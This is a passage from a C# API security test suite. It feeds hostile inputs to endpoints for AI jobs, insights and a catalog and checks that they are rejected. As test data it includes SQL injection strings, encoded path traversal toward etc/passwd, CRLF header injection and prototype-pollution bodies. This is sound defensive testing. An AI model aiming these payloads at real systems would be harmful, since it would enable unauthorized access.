        yield return Post(batch, "21 valid jobs", 422, BTL, Text(Jobs(Enumerable.Range(0, 21).Select(i => ApiClient.Pricing($"B21-{i}")))));
        yield return Post(batch, "1000 valid jobs", 422, BTL, Text(Jobs(Enumerable.Range(0, 1000).Select(i => ApiClient.Pricing($"B1000-{i}")))));
        yield return Post(batch, "21 garbage items", 422, BTL, Text(Jobs(Enumerable.Repeat("1", 21))));
        yield return Post(batch, "100,000 empty objects", 422, BTL, Text(Jobs(Enumerable.Repeat("{}", 100_000))));
        yield return Post(batch, "19 valid jobs and 1 invalid (nothing may be queued)", 422, VF,
            Text(Jobs(Enumerable.Range(0, 19).Select(i => ApiClient.Pricing($"B19-{i}")).Append("""{"type":"pricing_recalculate","params":{}}"""))));
        yield return Post(batch, "1 valid job and 1 of an unknown type", 422, IJT,
            Text(Jobs([ApiClient.Pricing("BU-1"), """{"type":"' or 1=1--","params":{}}"""])));
        yield return Post(batch, "valid jobs and a nested batch", 422, VF, Text(Jobs([ApiClient.Pricing("BN-1"), $"{{\"jobs\":[{ApiClient.Pricing("BN-2")}]}}"])));
        yield return Post(batch, "sequential given twice", 422, VF, Text(Jobs([ApiClient.Pricing("BS-1")], ",\"sequential\":true,\"sequential\":false")));
        yield return Post(batch, "callback_url given twice", 422, VF,
            Text(Jobs([ApiClient.Pricing("BC-1")], ",\"callback_url\":\"https://a.example.com/\",\"callback_url\":\"https://b.example.com/\"")));
        yield return Post(batch, "jobs[0].callback_url (a batch's jobs share the batch's)", 422, VF,
            Text(Jobs(["{\"type\":\"pricing_recalculate\",\"params\":{\"skus\":[\"BC-2\"],\"marketplace\":\"amazon_us\"},\"callback_url\":\"https://hooks.example.com/x\"}"])));
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Ids in paths: 404 JOB_NOT_FOUND for anything that is not an existing id of the workspace.

    private static readonly string Ulid = "01ARZ3NDEKTSV4RRFFQ69G5FAV";

    private static IEnumerable<(string What, string Segment)> BadUlidIds(string prefix) =>
    [
        ("lower-case ULID", prefix + Ulid.ToLowerInvariant()),
        ("ULID of 25 characters", prefix + Ulid[..25]),
        ("ULID of 27 characters", prefix + Ulid + "A"),
        ("forbidden letter I", prefix + Ulid[..25] + "I"),
        ("forbidden letter L", prefix + Ulid[..25] + "L"),
        ("forbidden letter O", prefix + Ulid[..25] + "O"),
        ("forbidden letter U", prefix + Ulid[..25] + "U"),
        ("ULID above 128 bits (first char 8)", prefix + "8" + Ulid[1..]),
        ("ULID without prefix", Ulid),
        ("prefix in upper case", prefix.ToUpperInvariant() + Ulid),
        ("the other prefix", (prefix == "job_" ? "batch_" : "job_") + Ulid),
        ("%00 inside", prefix + Ulid[..25] + "%00"),
        ("encoded ../ traversal", "..%2F..%2Fv1%2Finsights"),
        ("encoded ..%5C traversal", "..%5C..%5Cetc%5Cpasswd"),
        ("500-character id", prefix + new string('A', 500)),
        ("8 KB id", prefix + new string('7', 8 * 1024)),
        ("full-width digits", prefix + Uri.EscapeDataString("０１ＡＲＺ３ＮＤＥＫＴＳＶ４ＲＲＦＦＱ６９Ｇ５ＦＡＶ")),
        ("emoji", prefix + Uri.EscapeDataString("😀😀😀😀😀😀😀😀😀😀😀😀😀")),
        ("right-to-left override", Uri.EscapeDataString("\u202E" + prefix + Ulid)),
        ("CRLF header injection", prefix + "%0D%0ASet-Cookie:%20x=1"),
        ("space", prefix + "%20" + Ulid[1..]),
        ("lone surrogate (percent-encoded UTF-8 of U+D800)", prefix + "%ED%A0%80" + Ulid[3..]),
        ("invalid percent-encoding", prefix + "%ZZ" + Ulid[3..]),
        ("valid shape, does not exist", prefix + Ulid),
        .. SqlInjections.Select(s => ($"SQL injection {s}", Uri.EscapeDataString(s))),
        .. SqlInjections.Select(s => ($"SQL injection after the prefix {s}", prefix + Uri.EscapeDataString(s))),
    ];

    private static IEnumerable<(string What, string Segment)> BadUuids()
    {
        const string uuid = "3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f";
        return
        [
            ("upper-case UUID that does not exist", uuid.ToUpperInvariant()),
            ("UUID in braces", "%7B" + uuid + "%7D"),
            ("UUID without dashes", uuid.Replace("-", "", StringComparison.Ordinal)),
            ("UUID of 35 characters", uuid[..35]),
            ("UUID of 37 characters", uuid + "0"),
            ("non-hex letters", "zzzzzzzz-5b7d-4c2a-9e1f-0a1b2c3d4e5f"),
            ("nil UUID", "00000000-0000-0000-0000-000000000000"),
            ("max UUID", "ffffffff-ffff-ffff-ffff-ffffffffffff"),
            ("a job id", "job_" + Ulid),
            ("%00 inside", uuid[..35] + "%00"),
            ("encoded ../ traversal", "..%2F..%2Finsights"),
            ("500-character id", new string('a', 500)),
            ("unicode", Uri.EscapeDataString("ｆｆｆｆｆｆｆｆ-ｆｆｆｆ-ｆｆｆｆ-ｆｆｆｆ-ｆｆｆｆｆｆｆｆｆｆｆｆ")),
            ("number", "12345"),
            ("negative number", "-1"),
            .. SqlInjections.Select(s => ($"SQL injection {s}", Uri.EscapeDataString(s))),
        ];
    }

    private static IEnumerable<HostileCase> PathIds()
    {
        foreach (var (what, id) in BadUlidIds("job_"))
        {
            yield return new($"GET /api/ai-jobs/{{id}} | {what}", "GET", $"/api/ai-jobs/{id}", 404, NF);
            yield return new($"DELETE /api/ai-jobs/{{id}} | {what}", "DELETE", $"/api/ai-jobs/{id}", 404, NF);
            yield return new($"GET /api/ai-jobs/{{id}}/callbacks | {what}", "GET", $"/api/ai-jobs/{id}/callbacks", 404, NF);
            yield return new($"GET /api/ai-jobs/{{id}}/events | {what}", "GET", $"/api/ai-jobs/{id}/events", 404, NF);
        }
        foreach (var (what, id) in BadUlidIds("batch_"))
        {
            yield return new($"GET /api/ai-jobs/batch/{{id}} | {what}", "GET", $"/api/ai-jobs/batch/{id}", 404, NF);
            yield return new($"GET /api/ai-jobs/batch/{{id}}/callbacks | {what}", "GET", $"/api/ai-jobs/batch/{id}/callbacks", 404, NF);
            yield return new($"GET /api/ai-jobs/batch/{{id}}/events | {what}", "GET", $"/api/ai-jobs/batch/{id}/events", 404, NF);
        }
        foreach (var (what, id) in BadUuids())
        {
            yield return new($"GET /v1/compounding/jobs/{{id}} | {what}", "GET", $"/v1/compounding/jobs/{id}", 404, NF);
            yield return new($"GET /v1/compounding/jobs/{{id}}/callbacks | {what}", "GET", $"/v1/compounding/jobs/{id}/callbacks", 404, NF);
            yield return new($"GET /v1/compounding/jobs/{{id}}/events | {what}", "GET", $"/v1/compounding/jobs/{id}/events", 404, NF);
        }
        foreach (var kind in new[] { "widgets", "PRODUCTS", "products%00", "products%2F..%2F..%2Fai-jobs", "daily_sales", Uri.EscapeDataString(SqlInjections[0]),
                     Uri.EscapeDataString(SqlInjections[1]), Uri.EscapeDataString(SqlInjections[2]), new string('p', 500) })
        {
            yield return new($"GET /v1/catalog/{{kind}} | unknown kind {Clip(kind)}", "GET", $"/v1/catalog/{kind}", 404, NF);
        }
        foreach (var path in new[] { "/api/ai-jobs/job_" + Ulid + "/result", "/api/ai-jobs/batch/batch_" + Ulid + "/jobs", "/api/ai-jobs/x/y/z",
                     "/api/v2/ai-jobs", "/v1/compounding", "/v1/compounding/jobs/x/y", "/v1/catalog", "/v1/catalog/products/SKU-1", "/v1/insights/1",
                     "/v1/%27%20or%201=1--", "/API/AI-JOBS%00", "/hostile", "/v1/callbacks", "/v1/callbacks/secrets",
                     "/api/ai-jobs/job_" + Ulid + "/callbacks/x", "/api/ai-jobs/job_" + Ulid + "/events/x" })
        {
            yield return new($"GET {path} | unknown route", "GET", path, 404, NF);
        }
        yield return new("POST /api/ai-jobs/x/y | unknown route with a body", "POST", "/api/ai-jobs/x/y", 404, NF, Text(Pricing));
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Wrong methods on every route: 405, answered as MALFORMED_REQUEST.

    private static IEnumerable<HostileCase> WrongMethods()
    {
        var job = "job_" + Ulid;
        var routes = new (string Path, string[] Allowed)[]
        {
            ("/api/ai-jobs", ["GET", "POST"]),
            ($"/api/ai-jobs/{job}", ["GET", "DELETE"]),
            ("/api/ai-jobs/batch", ["POST", "GET", "DELETE"]), // GET and DELETE match /api/ai-jobs/{id} with id "batch": 404
            ($"/api/ai-jobs/batch/batch_{Ulid}", ["GET"]),
            ("/v1/compounding/trigger", ["POST"]),
            ("/v1/compounding/jobs", ["GET"]),
            ("/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f", ["GET"]),
            ("/v1/compounding/metrics", ["GET"]),
            ("/v1/insights", ["GET", "POST"]),
            ("/v1/patterns", ["GET"]),
            ("/v1/playbooks", ["GET"]),
            ("/v1/catalog/products", ["GET", "POST"]),
            ("/v1/catalog/daily-sales", ["GET", "POST"]),
            ("/v1/catalog/competitor-offers", ["GET", "POST"]),
            ("/v1/catalog/reviews", ["GET", "POST"]),
            ("/v1/catalog/returns", ["GET", "POST"]),
            ("/v1/catalog/widgets", ["GET"]),
            ("/v1/callbacks/secret", ["POST"]),
            ($"/api/ai-jobs/{job}/callbacks", ["GET"]),
            ($"/api/ai-jobs/{job}/events", ["GET"]),
            ($"/api/ai-jobs/batch/batch_{Ulid}/callbacks", ["GET"]),
            ($"/api/ai-jobs/batch/batch_{Ulid}/events", ["GET"]),
            ("/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f/callbacks", ["GET"]),
            ("/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f/events", ["GET"]),
        };
        foreach (var (path, allowed) in routes)
        {
            foreach (var method in new[] { "PUT", "PATCH", "POST", "DELETE", "OPTIONS", "HOSTILE" }.Except(allowed))
            {
                yield return new($"{method} {path} | wrong method", method, path, 405, MR, Text(Pricing));
            }
        }
        yield return new("GET /api/ai-jobs/batch | matches {id}: not a job", "GET", "/api/ai-jobs/batch", 404, NF);
        yield return new("DELETE /api/ai-jobs/batch | matches {id}: not a job", "DELETE", "/api/ai-jobs/batch", 404, NF);
        yield return new("PUT /api/ai-jobs | wrong method, no body", "PUT", "/api/ai-jobs", 405, MR);
        yield return new("PATCH /api/ai-jobs/{id} | wrong method, merge-patch body", "PATCH", $"/api/ai-jobs/{job}", 405, MR,
            Text("{\"status\":\"completed\"}", "application/merge-patch+json"));
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Query strings: bad limits, dates, cursors, filters and injection in every parameter: 422.

    private static IEnumerable<HostileCase> Queries()
    {
        var badLimits = new[] { "0", "-1", "-0", "1e400", "99999999999999999999", "2147483648", "+5", " 5", "5 ", "5.0", "0x10", "abc", "\u0665", "１０", "%00" }
            .Concat(SqlInjections).ToArray();
        var badDates = new[] { "2026-02-30", "2026-13-01", "26-03-12", "2026/03/12", "12/03/2026", "2026-03-12T14:32:01", "2026-03-12T25:00:00Z",
            "2026-03-12 14:32:01Z", "2026-03-12T14:32:01+25:00", "2026-03-12T14:32:01.12345678Z", "now", "1e400", "-0001-01-01", "0000-00-00",
            "10000-01-01", "0001-01-01T00:00:00+01:00" }.Concat(SqlInjections).ToArray();
        var badCursors = new[] { "abc", "!!!", "====", "%00", B64("123|' or 1=1--"), B64("-1|job_" + Ulid), B64("99999999999999999999|job_" + Ulid),
            B64("123|job_" + Ulid + "|x"), B64("123"), B64("123|3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f|x"), new string('A', 10 * 1024),
            Convert.ToBase64String([0xFF, 0xFE, 0x7C, 0x80]) }.Concat(SqlInjections).ToArray();

        IEnumerable<HostileCase> Param(string path, string name, IEnumerable<string> values, string code = VF, string? otherQuery = null)
        {
            foreach (var value in values)
            {
                var encoded = value == "%00" ? value : Uri.EscapeDataString(value);
                var query = $"{name}={encoded}" + (otherQuery is null ? "" : "&" + otherQuery);
                yield return new($"GET {path}?{name}= | {Describe(value)}", "GET", $"{path}?{query}", 422, code);
            }
            yield return new($"GET {path}?{name}= | given twice", "GET", $"{path}?{name}=1&{name}=2", 422, VF);
        }

        // GET /api/ai-jobs
        const string jobs = "/api/ai-jobs";
        foreach (var c in Param(jobs, "type", new[] { "pricing", "PRICING_RECALCULATE", "pricing_recalculate\u0000", new string('t', 500), "metrics" }.Concat(SqlInjections), IJT))
        {
            yield return c;
        }
        foreach (var c in Param(jobs, "status", new[] { "done", "QUEUED", "queued,running", "accepted", " queued" }.Concat(SqlInjections))
                     .Concat(Param(jobs, "limit", badLimits.Append("101")))
                     .Concat(Param(jobs, "start_date", badDates))
                     .Concat(Param(jobs, "end_date", badDates))
                     .Concat(Param(jobs, "cursor", badCursors)))
        {
            yield return c;
        }
        yield return new("GET /api/ai-jobs | end_date before start_date", "GET", $"{jobs}?start_date=2026-03-12&end_date=2026-03-11", 422, VF);
        yield return new("GET /api/ai-jobs | every parameter bad at once", "GET",
            $"{jobs}?type=x&status=y&limit=0&start_date=z&end_date=w&cursor=%21", 422, VF);
        // Bounds at the edge of DateTime: valid dates, so the documented success (or a 422) is fine; a 500 is not.
        foreach (var (what, query) in new[]
                 {
                     ("end_date=9999-12-31 (the last day)", "end_date=9999-12-31"),
                     ("end_date=9999-12-31T23:59:59.9999999Z (the last tick)", "end_date=9999-12-31T23:59:59.9999999Z"),
                     ("start_date=0001-01-01", "start_date=0001-01-01"),
                     ("cursor at DateTime.MaxValue", "cursor=" + B64($"{DateTime.MaxValue.Ticks}|job_{Ulid}")),
                     ("cursor at tick 0", "cursor=" + B64($"0|job_{Ulid}")),
                 })
        {
            yield return new($"GET /api/ai-jobs | {what}", "GET", $"{jobs}?{query}", 200, null, AlsoAccept: [422]);
        }

        // GET /v1/compounding/jobs
        const string runs = "/v1/compounding/jobs";
        foreach (var c in Param(runs, "job_type", new[] { "pricing_recalculate", "METRICS", "metrics " }.Concat(SqlInjections))
                     .Concat(Param(runs, "status", new[] { "queued", "ACCEPTED", "done" }.Concat(SqlInjections)))
                     .Concat(Param(runs, "limit", badLimits.Append("101")))
                     .Concat(Param(runs, "cursor", badCursors.Append(B64("123|job_" + Ulid)))))
        {
            yield return c;
        }
        yield return new("GET /v1/compounding/jobs | cursor at DateTime.MaxValue", "GET",
            $"{runs}?cursor=" + B64($"{DateTime.MaxValue.Ticks}|3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f"), 200, null, AlsoAccept: [422]);

        // GET /v1/insights
        const string insights = "/v1/insights";
        foreach (var c in Param(insights, "last", new[] { "0m", "1y", "366d", "9999999d", "999999d", "-1d", "1.5h", "d", "30", "30 m", "1D", "\u0661d", "8785h", "525601m" }.Concat(SqlInjections))
                     .Concat(Param(insights, "from", badDates))
                     .Concat(Param(insights, "to", badDates))
                     .Concat(Param(insights, "limit", badLimits.Append("1001")))
                     .Concat(Param(insights, "cursor", badCursors)))
        {
            yield return c;
        }
        yield return new("GET /v1/insights | last and from together", "GET", $"{insights}?last=1d&from=2026-03-01", 422, VF);
        yield return new("GET /v1/insights | to before from", "GET", $"{insights}?from=2026-03-12&to=2026-03-11", 422, VF);
        foreach (var (what, query) in new[]
                 {
                     ("to=9999-12-31 (the last day)", "to=9999-12-31"),
                     ("to=9999-12-31T23:59:59.9999999Z (the last tick)", "to=9999-12-31T23:59:59.9999999Z"),
                     ("from=0001-01-01", "from=0001-01-01"),
                     ("last=365d (the maximum)", "last=365d"),
                 })
        {
            yield return new($"GET /v1/insights | {what}", "GET", $"{insights}?{query}", 200, null, AlsoAccept: [422]);
        }

        // Pipeline outputs
        foreach (var c in Param("/v1/patterns", "status", new[] { "retired", "ACTIVE", "all" }.Concat(SqlInjections))
                     .Concat(Param("/v1/patterns", "limit", badLimits.Append("501")))
                     .Concat(Param("/v1/playbooks", "status", new[] { "inactive", "ACTIVE", "all" }.Concat(SqlInjections)))
                     .Concat(Param("/v1/playbooks", "limit", badLimits.Append("501")))
                     .Concat(Param("/v1/compounding/metrics", "limit", badLimits.Append("501"))))
        {
            yield return c;
        }

        // Catalog reads
        foreach (var kind in new[] { "products", "daily-sales", "competitor-offers", "reviews", "returns" })
        {
            var path = $"/v1/catalog/{kind}";
            foreach (var c in Param(path, "limit", new[] { "0", "1001", "-1", "1e400", "abc" }.Concat(SqlInjections))
                         .Concat(Param(path, "offset", new[] { "-1", "1000001", "1e400", "99999999999999999999", "abc" }.Concat(SqlInjections))))
            {
                yield return c;
            }
            yield return new($"GET {path}?sku= | given twice", "GET", $"{path}?sku=a&sku=b", 422, VF);
            // sku is free text: an injection string is a valid filter matching nothing (documented success, empty).
            foreach (var s in SqlInjections)
            {
                yield return new($"GET {path}?sku= | {s} (valid filter, must match nothing)", "GET", $"{path}?sku={Uri.EscapeDataString(s)}", 200, null);
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Headers: repeated, oversized, injected.

    private static IEnumerable<HostileCase> Headers()
    {
        var bigValue = new string('a', 64 * 1024);
        var valid = Pricing;
        HostileCase H(string name, string method, string path, int status, string code, Action<HttpRequestMessage, HostileContext> tweak, string? body = null, bool anonymous = false) =>
            new(name, method, path, status, code, body is null ? null : Text(body), tweak, anonymous);

        yield return H("POST /api/ai-jobs | Authorization sent twice (same valid key)", "POST", "/api/ai-jobs", 401, UN,
            (r, c) => r.Headers.TryAddWithoutValidation("Authorization", new[] { $"Bearer {c.Key}", $"Bearer {c.Key}" }), valid, anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization sent twice (valid key and garbage)", "GET", "/api/ai-jobs", 401, UN,
            (r, c) => r.Headers.TryAddWithoutValidation("Authorization", new[] { $"Bearer {c.Key}", "Bearer nope" }), anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization of 64 KB", "GET", "/api/ai-jobs", 401, UN,
            (r, _) => r.Headers.TryAddWithoutValidation("Authorization", "Bearer " + bigValue), anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization: Bearer + key + trailing junk", "GET", "/api/ai-jobs", 401, UN,
            (r, c) => r.Headers.TryAddWithoutValidation("Authorization", $"Bearer {c.Key} junk"), anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization: key without scheme", "GET", "/api/ai-jobs", 401, UN,
            (r, c) => r.Headers.TryAddWithoutValidation("Authorization", c.Key), anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization: Basic with the key", "GET", "/api/ai-jobs", 401, UN,
            (r, c) => r.Headers.TryAddWithoutValidation("Authorization", "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(c.Key + ":"))), anonymous: true);
        yield return H("GET /api/ai-jobs | Authorization: Bearer + non-ASCII", "GET", "/api/ai-jobs", 401, UN,
            (r, _) => r.Headers.TryAddWithoutValidation("Authorization", "Bearer nxj_ключ_😀"), anonymous: true);
        foreach (var s in SqlInjections)
        {
            yield return H($"GET /api/ai-jobs | Authorization: Bearer {s}", "GET", "/api/ai-jobs", 401, UN,
                (r, _) => r.Headers.TryAddWithoutValidation("Authorization", $"Bearer {s}"), anonymous: true);
            yield return H($"GET /api/ai-jobs | Authorization: Bearer nxj_{s}_...", "GET", "/api/ai-jobs", 401, UN,
                (r, _) => r.Headers.TryAddWithoutValidation("Authorization", $"Bearer nxj_01ARZ3NDEKTSV4RRFFQ69G5FAV_{s}"), anonymous: true);
        }

        yield return H("POST /api/ai-jobs | X-Tenant-ID repeated: own, then another", "POST", "/api/ai-jobs", 403, TM,
            (r, c) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", new[] { c.Workspace.ToString(CultureInfo.InvariantCulture), (c.Workspace + 1).ToString(CultureInfo.InvariantCulture) }), valid);
        yield return H("GET /api/ai-jobs | X-Tenant-ID repeated: another, then own", "GET", "/api/ai-jobs", 403, TM,
            (r, c) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", new[] { (c.Workspace + 1).ToString(CultureInfo.InvariantCulture), c.Workspace.ToString(CultureInfo.InvariantCulture) }));
        yield return H("GET /api/ai-jobs | X-Tenant-ID: own,own in one value", "GET", "/api/ai-jobs", 403, TM,
            (r, c) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", $"{c.Workspace},{c.Workspace}"));
        yield return H("GET /api/ai-jobs | X-Tenant-ID of 64 KB", "GET", "/api/ai-jobs", 403, TM,
            (r, _) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", bigValue));
        yield return H("GET /api/ai-jobs | X-Tenant-ID: own with leading zeros", "GET", "/api/ai-jobs", 403, TM,
            (r, c) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", "000" + c.Workspace));
        foreach (var s in SqlInjections)
        {
            yield return H($"POST /v1/insights | X-Tenant-ID: {s}", "POST", "/v1/insights", 403, TM,
                (r, _) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", s), Posts.Single(p => p.Path == "/v1/insights").Valid);
        }

        foreach (var e in Routes)
        {
            yield return H($"{e.Label} | Idempotency-Key of 10 KB (valid body)", "POST", e.Path, 422, VF,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", new string('k', 10 * 1024)), e.Valid);
            yield return H($"{e.Label} | Idempotency-Key sent twice (valid body)", "POST", e.Path, 422, VF,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", new[] { "hostile-a", "hostile-b" }), e.Valid);
            yield return H($"{e.Label} | Idempotency-Key with a space (valid body)", "POST", e.Path, 422, VF,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", "hostile key"), e.Valid);
            yield return H($"{e.Label} | Idempotency-Key with non-ASCII (valid body)", "POST", e.Path, 422, VF,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", "hostile-ключ"), e.Valid);
            yield return H($"{e.Label} | Idempotency-Key ' or 1=1-- with broken JSON", "POST", e.Path, 422, VF,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", SqlInjections[0]), e.Valid[..^1]);
            yield return H($"{e.Label} | valid Idempotency-Key with broken JSON (claim released)", "POST", e.Path, 400, MR,
                (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", "hostile-broken-" + e.Path.Replace('/', '-')), e.Valid[..^1]);
            yield return H($"{e.Label} | Content-Type header of 64 KB", "POST", e.Path, 415, MR,
                (r, _) =>
                {
                    r.Content!.Headers.Remove("Content-Type");
                    r.Content.Headers.TryAddWithoutValidation("Content-Type", "application/" + bigValue);
                }, e.Valid);
            yield return H($"{e.Label} | Content-Type sent twice (json and xml)", "POST", e.Path, 415, MR,
                (r, _) =>
                {
                    r.Content!.Headers.Remove("Content-Type");
                    r.Content.Headers.TryAddWithoutValidation("Content-Type", new[] { "application/json", "application/xml" });
                }, e.Valid);
        }
        yield return H("GET /api/ai-jobs?limit=0 | 64 KB junk header (TestServer has no header limit; Kestrel would answer 431)", "GET", "/api/ai-jobs?limit=0", 422, VF,
            (r, _) => r.Headers.TryAddWithoutValidation("X-Hostile", bigValue));
        yield return H("GET /api/ai-jobs?limit=0 | 200 headers", "GET", "/api/ai-jobs?limit=0", 422, VF,
            (r, _) =>
            {
                for (var i = 0; i < 200; i++)
                {
                    r.Headers.TryAddWithoutValidation($"X-Hostile-{i}", "x");
                }
            });

        // The problem body must not depend on what the client says it accepts.
        foreach (var (what, method, path, status, code, body) in new[]
                 {
                     ("422", "GET", "/api/ai-jobs?limit=0", 422, VF, (string?)null),
                     ("400", "POST", "/api/ai-jobs", 400, MR, "{"),
                     ("404 unknown job", "GET", "/api/ai-jobs/job_" + Ulid, 404, NF, null),
                     ("404 unknown route", "GET", "/hostile", 404, NF, null),
                     ("405", "PUT", "/api/ai-jobs", 405, MR, null),
                     ("413", "POST", "/v1/insights", 413, PTL, "{\"pad\":\"" + new string('x', 3 * 1024 * 1024) + "\"}"),
                 })
        {
            foreach (var accept in new[] { "application/xml", "text/html" })
            {
                yield return H($"{method} {path.Split('?')[0]} | {what} with Accept: {accept}", method, path, status, code,
                    (r, _) => r.Headers.TryAddWithoutValidation("Accept", accept), body);
            }
        }
        yield return H("GET /api/ai-jobs | 401 with Accept: application/xml", "GET", "/api/ai-jobs", 401, UN,
            (r, _) => r.Headers.TryAddWithoutValidation("Accept", "application/xml"), anonymous: true);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // No credentials on every endpoint, with hostile bodies and queries: 401 before anything is parsed.

    private static IEnumerable<HostileCase> Anonymous()
    {
        var endpoints = new (string Method, string Path, string? Body)[]
        {
            ("POST", "/api/ai-jobs", "{"),
            ("GET", "/api/ai-jobs?limit=' or 1=1--", null),
            ("GET", "/api/ai-jobs/job_" + Ulid, null),
            ("DELETE", "/api/ai-jobs/job_" + Ulid, null),
            ("POST", "/api/ai-jobs/batch", "[[[["),
            ("GET", "/api/ai-jobs/batch/batch_" + Ulid, null),
            ("POST", "/v1/compounding/trigger", "{\"job_type\":\"' or 1=1--\"}"),
            ("GET", "/v1/compounding/jobs?cursor=x", null),
            ("GET", "/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f", null),
            ("GET", "/v1/compounding/metrics?limit=-1", null),
            ("POST", "/v1/insights", "NaN"),
            ("GET", "/v1/insights?last=1y", null),
            ("GET", "/v1/patterns?status=x", null),
            ("GET", "/v1/playbooks?limit=0", null),
            ("POST", "/v1/catalog/products", "{\"products\":1}"),
            ("POST", "/v1/catalog/daily-sales", ""),
            ("POST", "/v1/catalog/competitor-offers", "'"),
            ("POST", "/v1/catalog/reviews", "{}"),
            ("POST", "/v1/catalog/returns", "[]"),
            ("GET", "/v1/catalog/products?offset=-1", null),
            ("POST", "/v1/callbacks/secret", "{\"secret\":\"' or 1=1--\"}"),
            ("GET", "/api/ai-jobs/job_" + Ulid + "/callbacks", null),
            ("GET", "/api/ai-jobs/job_" + Ulid + "/events", null),
            ("GET", "/api/ai-jobs/batch/batch_" + Ulid + "/callbacks", null),
            ("GET", "/api/ai-jobs/batch/batch_" + Ulid + "/events", null),
            ("GET", "/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f/callbacks", null),
            ("GET", "/v1/compounding/jobs/3f2c1a9e-5b7d-4c2a-9e1f-0a1b2c3d4e5f/events", null),
        };
        foreach (var (method, path, body) in endpoints)
        {
            yield return new($"{method} {path.Split('?')[0]} | no Authorization, hostile input", method, path, 401, UN, body is null ? null : Text(body), Anonymous: true);
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // POST /v1/callbacks/secret takes no body (or {}): anything else in the body is refused and nothing is rotated.

    private static IEnumerable<HostileCase> CallbackSecret()
    {
        const string path = "/v1/callbacks/secret";
        HostileCase C(string what, int status, string code, Func<HttpContent?>? body, Action<HttpRequestMessage, HostileContext>? tweak = null) =>
            new($"POST {path} | {what}", "POST", path, status, code, body, tweak);

        var broken = new (string What, byte[] Body)[]
        {
            ("truncated", U("{")),
            ("trailing garbage", U("{} garbage")),
            ("two documents back to back", U("{}{}")),
            ("NaN literal", U("NaN")),
            ("single-quoted member", U("{'secret':'x'}")),
            ("block comment", U("/* hostile */{}")),
            ("trailing comma", U("{,}")),
            ("whitespace only", U("  \r\n\t  ")),
            ("BOM then junk", [0xEF, 0xBB, 0xBF, .. U("junk")]),
            ("arrays nested 10,000 deep", U(new string('[', 10_000) + new string(']', 10_000))),
            ("raw 0xFF", [.. U("{"), 0xFF, .. U("}")]),
            ("NUL byte before the object", [0x00, .. U("{}")]),
            ("UTF-16LE encoded body", Encoding.Unicode.GetBytes("{}")),
            ("member name is raw invalid UTF-8", [.. U("{\""), 0xC3, 0x28, .. U("\":1}")]),
        };
        foreach (var (what, body) in broken)
        {
            yield return C($"broken JSON: {what}", 400, MR, Raw(body));
        }
        foreach (var (what, body) in new[] { ("root is an array", "[]"), ("root is null", "null"), ("root is a number", "42"), ("root is a string", "\"{}\""), ("root is true", "true") })
        {
            yield return C($"not an object: {what}", 422, VF, Text(body));
        }
        foreach (var body in new[] { "{\"secret\":\"whsec_mine\"}", "{\"rotate\":true}", "{\"workspace_id\":1}", "{\"__proto__\":{\"admin\":true}}", "{\"\":1}" }
                     .Concat(SqlInjections.Select(s => "{" + Json(s) + ":1}")))
        {
            yield return C($"body with a member: {Clip(body)}", 422, VF, Text(body));
        }
        foreach (var type in new[] { "text/plain", "application/xml", "application/x-www-form-urlencoded", "application/json; charset=latin1", "text/json", "json please" })
        {
            yield return C($"{{}} as Content-Type: {type}", 415, MR, Raw(U("{}"), type));
        }
        yield return C("{} without a Content-Type", 415, MR, Raw(U("{}"), null));
        yield return C("10 MB JSON body with Content-Length", 413, PTL, () => Bodies.Bytes(U("{\"pad\":\"" + new string('x', 10 * 1024 * 1024) + "\"}")));
        yield return C("10 MB junk body without Content-Length (chunked)", 413, PTL, () => Bodies.Unannounced(Enumerable.Repeat((byte)'[', 10 * 1024 * 1024).ToArray()));
        yield return C("Idempotency-Key of 10 KB", 422, VF, null, (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", new string('k', 10 * 1024)));
        yield return C("Idempotency-Key with a space", 422, VF, null, (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", "hostile key"));
        yield return C("X-Tenant-ID of another workspace", 403, TM, null, (r, c) => r.Headers.TryAddWithoutValidation("X-Tenant-ID", (c.Workspace + 1).ToString(CultureInfo.InvariantCulture)));
    }

    // ---------------------------------------------------------------------------------------------------------------
    // JSON helpers

    private static byte[] U(string s) => Encoding.UTF8.GetBytes(s);

    private static string Json(string s) => JsonSerializer.Serialize(s, Relaxed);

    private static string B64(string s) => Convert.ToBase64String(Encoding.UTF8.GetBytes(s)).TrimEnd('=').Replace('+', '-').Replace('/', '_');

    private static string Clip(string s) => s.Length <= 40 ? s : s[..40] + $"…({s.Length} chars)";

    private static string Describe(string s)
    {
        if (s.Length == 0)
        {
            return "\"\" (empty)";
        }
        var shown = new StringBuilder();
        foreach (var ch in s.Length > 40 ? s[..40] : s)
        {
